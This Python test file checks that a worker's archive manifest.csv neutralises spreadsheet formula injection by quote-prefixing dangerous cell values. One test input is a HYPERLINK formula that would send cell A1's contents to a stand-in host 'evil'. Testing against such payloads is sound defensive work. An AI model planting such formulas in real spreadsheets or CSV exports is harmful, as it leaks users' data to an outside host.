"""The generation archive built by the worker: its manifest.csv is safe to open in a spreadsheet."""

from __future__ import annotations

import csv
import io
import zipfile

from worker.archive import MANIFEST_FIELDS, build_archive

NAMES = {
    "=HYPERLINK(\"http://evil/\"&A1)": "'=HYPERLINK(\"http://evil/\"&A1)",
    "+1+2": "'+1+2",
    "-2+3": "'-2+3",
    "@SUM(A1:A2)": "'@SUM(A1:A2)",
    "\tTAB": "'\tTAB",
    "\rCR": "'\rCR",
    "polyp 7, a=b": "polyp 7, a=b",  # a formula character past the start is harmless
    "": "",
}


def test_manifest_neutralises_formulas_in_every_text_cell(tmp_path):
    pairs_dir, reports_dir = tmp_path / "pairs", tmp_path / "reports"
    for folder in ("images", "masks"):
        (pairs_dir / folder).mkdir(parents=True)
        for i in range(len(NAMES)):
            (pairs_dir / folder / f"{i}.png").write_bytes(b"png")
    (reports_dir / "m1").mkdir(parents=True)
    (reports_dir / "m1" / "report.json").write_text("{}")
    rows = [
        {"image": f"images/{i}.png", "mask": f"masks/{i}.png", "model_id": "=1+1", "pair_name": name,
         "sample_index": i, "seed": 2**63 - 1, "gen_start_scale": -1, "style_transfer": "false"}
        for i, name in enumerate(NAMES)
    ]
    target = tmp_path / "archive.zip"
    size, _ = build_archive(pairs_dir, rows, reports_dir, target)
    assert size == target.stat().st_size
    with zipfile.ZipFile(target) as zf:
        assert sorted(zf.namelist()) == sorted([*(r[k] for r in rows for k in ("image", "mask")), "manifest.csv", "reports/m1/report.json"])
        text = zf.read("manifest.csv").decode()
    read = list(csv.DictReader(io.StringIO(text, newline="")))
    assert [r["pair_name"] for r in read] == list(NAMES.values())
    assert {r["model_id"] for r in read} == {"'=1+1"}
    # Numbers are numbers, not text: they stay as written (a negative one keeps its sign).
    assert [(r["sample_index"], r["image"]) for r in read] == [(str(i), f"images/{i}.png") for i in range(len(NAMES))]
    assert {(r["seed"], r["gen_start_scale"], r["style_transfer"]) for r in read} == {(str(2**63 - 1), "-1", "false")}
    # One CRLF-ended line per row: the tab and CR in names are quoted, not row breaks.
    lines = text.split("\r\n")
    assert lines[0] == ",".join(MANIFEST_FIELDS) and len(lines) == len(NAMES) + 2 and lines[-1] == ""
